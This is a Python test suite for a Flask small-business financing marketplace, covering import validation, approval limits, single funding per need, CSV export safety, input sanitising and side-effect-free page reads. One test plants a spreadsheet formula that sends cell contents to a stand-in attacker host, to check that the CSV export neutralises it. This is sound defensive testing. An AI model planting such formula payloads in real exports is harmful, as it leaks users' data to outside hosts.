"""Issue 12, market findings: imported histories within the conventions, decisions within the published
terms, a need funded once, one invitation per lead, CSV cells that never run, bounded text, retired is
final, and page reads that write nothing."""
import csv
import datetime as dt
import io

import pytest
import sqlalchemy as sa

from models import Application, FinancingNeed, Institution, LeadInvitation, Notification, db
from tests.conftest import csrf_token, valid_uscc
from tests.test_access import world  # noqa: F401  (the fixture)
from tests.test_admin_ops import HEADER, _import, a_product, admin, sign_in  # noqa: F401
from tests.test_api import assert_error, token_for
from tests.test_institution import PRODUCT, market  # noqa: F401

FIRM = "重庆历史数据科技有限公司,next_gen_it,2015-03-01,50,20000000,8.5,12,high_tech_enterprise,A,false"


def _history(product_id: int, rows: list[str], code: str = "91500107MA61HXT70") -> str:
    firm = f"{valid_uscc(code)},{FIRM}"
    return "\r\n".join([HEADER, *(row.format(firm=firm, product=product_id) for row in rows)]) + "\r\n"


def test_an_import_cannot_break_the_public_site_and_keeps_its_good_rows(client, admin, make_user, app):  # noqa: F811
    product_id = a_product(app, make_user("institution"))  # published up to 5,000,000 yuan
    headers = token_for(client, admin.email, admin.password)
    text = _history(product_id, [
        "{firm},{product},2000000,12,disbursed,9000000000000000000,4.2,2021-06-01",  # 2: beyond the limits
        "{firm},{product},2000000,12,disbursed,100000000000000000000,4.2,2021-06-02",  # 3: 10^20
        "{firm},{product},2000000,12,approved,6000000,4.2,2021-06-03",  # 4: above the product's maximum
        "{firm},{product},2000000,12,approved,1500000,nan,2021-06-04",  # 5: not finite
        "{firm},{product},2000000,12,approved,1500000,inf,2021-06-05",  # 6
        "{firm},{product},2000000,12,disbursed,5000000,4.2,2021-06-06",  # 7: good, at the maximum
        "{firm},{product},2000000,12,rejected,,,2021-06-07",  # 8: good
    ])
    text += f"{valid_uscc('91500107MA61HXT81')},名字\x00有空字符,next_gen_it,2015-03-01,5,1000000,nan,1,,A,false," \
            f"{product_id},200000,12,rejected,,,2021-06-08\r\n"  # 9: NUL in a name, nan in a firm fact
    response = _import(client, headers, text)
    assert response.status_code == 200, response.json
    assert response.json["imported"] == 2
    assert [row["line"] for row in response.json["rejected_rows"]] == [2, 3, 4, 5, 6, 9]
    assert "approved_amount_cny" in response.json["rejected_rows"][2]["error"]
    for path in ("/", "/api/v1/admin/stats", "/api/v1/admin/stats.csv"):
        assert client.get(path, headers=headers).status_code == 200, path


def test_sums_at_the_limits_do_not_overflow(client, admin, make_user, app):  # noqa: F811
    officer = make_user("institution")
    with app.app_context():
        from models import Product

        product = Product(institution_id=officer.institution_id, name="大额贷", kind="credit_loan",
                          min_amount_cny=100_000, max_amount_cny=10**10, min_term_months=1, max_term_months=360,
                          rate_min_pct=3.0, rate_max_pct=6.0)
        db.session.add(product)
        db.session.commit()
        product_id = product.id
    first = dt.date(2020, 1, 1)
    rows = [f"{{firm}},{{product}},10000000000,360,disbursed,10000000000,4.2,{first + dt.timedelta(days=i)}"
            for i in range(300)]
    headers = token_for(client, admin.email, admin.password)
    response = _import(client, headers, _history(product_id, rows))
    assert response.status_code == 200 and response.json["imported"] == 300, response.json
    stats = client.get("/api/v1/admin/stats", headers=headers)
    assert stats.status_code == 200 and stats.json["disbursed_amount_cny"] == 300 * 10**10
    assert client.get("/").status_code == 200


def decide(client, market, **body):  # noqa: F811
    return client.post(f"/api/v1/applications/{market['application']['id']}/decision", headers=market["bank"],
                       json={"decision": "approve", **body})


@pytest.mark.parametrize("field, value", [
    ("rate_pct", 30.0), ("rate_pct", 3.0), ("rate_pct", 5.51),
    ("term_months", 360), ("term_months", 2), ("term_months", 37),
    ("approved_amount_cny", 1), ("approved_amount_cny", 99_999), ("approved_amount_cny", 5_000_001),
])
def test_an_approval_stays_within_the_published_terms(client, market, field, value):  # noqa: F811
    body = {"approved_amount_cny": 1_000_000, "rate_pct": 4.2, "term_months": 12, field: value}
    assert_error(decide(client, market, **body), 422, fields=[field])
    assert client.get(f"/api/v1/applications/{market['application']['id']}",
                      headers=market["bank"]).json["status"] == "submitted"


def test_an_approval_at_the_edges_of_the_terms_is_accepted(client, market):  # noqa: F811
    response = decide(client, market, approved_amount_cny=PRODUCT["max_amount_cny"], rate_pct=PRODUCT["rate_min_pct"],
                      term_months=PRODUCT["max_term_months"])
    assert response.status_code == 200 and response.json["status"] == "approved"


def test_a_need_is_funded_once(client, market, make_user, app):  # noqa: F811
    other = make_user("institution")
    bank_b = token_for(client, other.email, other.password)
    product_b = client.post("/api/v1/products", json=PRODUCT, headers=bank_b).json["id"]
    second = client.post("/api/v1/applications", json={"need_id": market["need"]["id"], "product_id": product_b},
                         headers=market["owner"]).json["id"]
    approve = {"decision": "approve", "approved_amount_cny": 1_000_000, "rate_pct": 4.2, "term_months": 12}
    assert client.post(f"/api/v1/applications/{second}/decision", json=approve, headers=bank_b).status_code == 200
    assert decide(client, market, approved_amount_cny=2_000_000, rate_pct=4.0, term_months=12).status_code == 200
    first = market["application"]["id"]
    assert client.post(f"/api/v1/applications/{first}/disbursement", json={"amount_cny": 2_000_000},
                       headers=market["bank"]).status_code == 200
    # Bank B's approved application ended with the need; it can no longer disburse or decide.
    ended = client.get(f"/api/v1/applications/{second}", headers=bank_b).json
    assert ended["status"] == "withdrawn"
    assert_error(client.post(f"/api/v1/applications/{second}/disbursement", json={"amount_cny": 1_000_000},
                             headers=bank_b), 409)
    assert_error(client.post(f"/api/v1/applications/{second}/decision", json=approve, headers=bank_b), 409)
    assert client.get(f"/api/v1/needs/{market['need']['id']}", headers=market["owner"]).json["status"] == "closed"
    with app.app_context():
        disbursed = db.session.scalar(sa.select(sa.func.count(Application.id)).where(
            Application.need_id == market["need"]["id"], Application.status == "disbursed"))
        assert disbursed == 1
    # Bank B's officer sees why on the application's page.
    officer_page = app.test_client()
    sign_in(officer_page, other)
    assert "其他机构放款" in officer_page.get(f"/institution/applications/{second}").get_data(as_text=True)


def test_a_submitted_application_of_a_closed_need_cannot_be_decided(client, market, make_user, app):  # noqa: F811
    with app.app_context():
        db.session.execute(sa.update(FinancingNeed).where(FinancingNeed.id == market["need"]["id"])
                           .values(status="closed"))
        db.session.commit()
    assert_error(decide(client, market, approved_amount_cny=1_000_000, rate_pct=4.2, term_months=12), 409)


def test_one_invitation_per_product_and_need_shown_as_sent(client, market, app):  # noqa: F811
    officer = app.test_client()
    sign_in(officer, market["officer"])
    product_id, need_id = market["product"]["id"], market["need"]["id"]
    # The firm's application exists already (409); a second need of the firm is the lead to invite.
    need = client.post("/api/v1/needs", json={"amount_cny": 1_000_000, "term_months": 12}, headers=market["owner"]).json
    page = officer.get(f"/institution/products/{product_id}/leads").get_data(as_text=True)
    for _ in range(20):
        officer.post(f"/institution/products/{product_id}/leads/{need['id']}/invite",
                     data={"csrf_token": csrf_token(page)})
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Notification.id)).where(Notification.kind == "invitation")) == 1
        assert db.session.scalar(sa.select(sa.func.count(LeadInvitation.id))) == 1
    page = officer.get(f"/institution/products/{product_id}/leads").get_data(as_text=True)
    assert 'data-testid="invited"' in page and need_id != need["id"]


def test_csv_cells_never_run_as_formulas(client, admin, make_user, app):  # noqa: F811
    officer = make_user("institution")
    with app.app_context():
        db.session.execute(sa.update(Institution).where(Institution.id == officer.institution_id)
                           .values(name='=HYPERLINK("http://evil.example/?"&A1,"点我")'))
        db.session.commit()
    headers = token_for(client, admin.email, admin.password)
    body = client.get("/api/v1/admin/stats.csv", headers=headers).get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_free_text_has_a_maximum_refused_not_cut(client, market):  # noqa: F811
    long = {**PRODUCT, "description": "长" * 5001}
    assert_error(client.post("/api/v1/products", json=long, headers=market["bank"]), 422, fields=["description"])
    assert_error(client.post(f"/api/v1/applications/{market['application']['id']}/decision", headers=market["bank"],
                             json={"decision": "reject", "reason": "因" * 1001}), 422, fields=["reason"])


@pytest.mark.parametrize("name", ["科创\u202e贷款", "科创\u200b贷款", "科创\x07贷款", "科创\u2066贷款"])
def test_names_refuse_invisible_and_control_characters(client, market, name):  # noqa: F811
    assert_error(client.post("/api/v1/products", json={**PRODUCT, "name": name}, headers=market["bank"]), 422,
                 fields=["name"])
    assert_error(client.patch("/api/v1/enterprise", json={"name": name + "有限公司"}, headers=market["owner"]), 422,
                 fields=["name"])


def test_a_retired_product_stays_retired(client, market):  # noqa: F811
    path = f"/api/v1/products/{market['product']['id']}"
    assert client.patch(path, json={"status": "retired"}, headers=market["bank"]).status_code == 200
    for status in ("active", "paused"):
        assert_error(client.patch(path, json={"status": status}, headers=market["bank"]), 409)
    assert client.get("/api/v1/products").json["total"] == 0


def test_no_page_read_writes_without_declaring_it(app, world):  # noqa: F811
    """Every GET page, as every role: a write inside a GET that did not declare it (views.writes_on_get)
    fails the walk. Recording a session's use, on a connection of its own, is the one exception."""
    from flask import g, has_request_context

    from tests.test_fuzz_pages import page_paths

    undeclared = []

    def watch(conn, cursor, statement, parameters, context, executemany):
        verb = statement.lstrip().split(None, 1)[0].upper()
        if verb in ("INSERT", "UPDATE", "DELETE") and has_request_context() and not g.get("writes_on_get") \
                and not statement.lstrip().startswith("UPDATE auth_tokens SET last_used_at"):
            from flask import request

            if request.method == "GET":
                undeclared.append((request.path, statement[:80]))

    with app.app_context():
        sa.event.listen(db.engine, "before_cursor_execute", watch)
    try:
        for actor in ("A", "X", "admin"):
            client = app.test_client()
            sign_in(client, world["people"][actor])
            for path in page_paths(app, world, actor):
                assert client.get(path).status_code < 500, path
    finally:
        with app.app_context():
            sa.event.remove(db.engine, "before_cursor_execute", watch)
    assert undeclared == []


def test_notifications_are_marked_read_by_an_explicit_post(client, market, app):  # noqa: F811
    decide(client, market, approved_amount_cny=1_000_000, rate_pct=4.2, term_months=12)
    page = app.test_client()
    sign_in(page, market["firm"])
    html = page.get("/enterprise/notifications").get_data(as_text=True)
    with app.app_context():
        unread = sa.select(sa.func.count(Notification.id)).where(Notification.read_at.is_(None))
        assert db.session.scalar(unread) == 1  # reading the page changed nothing
    assert page.post("/enterprise/notifications/read", data={"csrf_token": csrf_token(html)}).status_code == 302
    with app.app_context():
        assert db.session.scalar(unread) == 0


def test_withdrawing_a_need_asks_first_and_says_what_will_happen(client, market, app):  # noqa: F811
    page = app.test_client()
    sign_in(page, market["firm"])
    need = f"/enterprise/needs/{market['need']['id']}"
    html = page.get(need).get_data(as_text=True)
    asked = page.post(need + "/withdraw", data={"csrf_token": csrf_token(html)})
    question = asked.get_data(as_text=True)
    assert asked.status_code == 200 and "确认撤回融资需求？" in question and "1 个进行中的申请将一并撤回" in question
    assert client.get(f"/api/v1/needs/{market['need']['id']}", headers=market["owner"]).json["status"] == "open"
    page.post(need + "/withdraw", data={"csrf_token": csrf_token(question), "confirm": "yes"})
    assert client.get(f"/api/v1/needs/{market['need']['id']}", headers=market["owner"]).json["status"] == "withdrawn"
    assert client.get(f"/api/v1/applications/{market['application']['id']}",
                      headers=market["owner"]).json["status"] == "withdrawn"


def test_options_on_the_api_lists_the_methods_without_an_html_page(client):
    response = client.open("/api/v1/products", method="OPTIONS")
    assert response.status_code == 204 and response.get_data() == b""
    assert set(response.headers["Allow"].split(", ")) >= {"GET", "POST"}
    assert response.mimetype != "text/html"
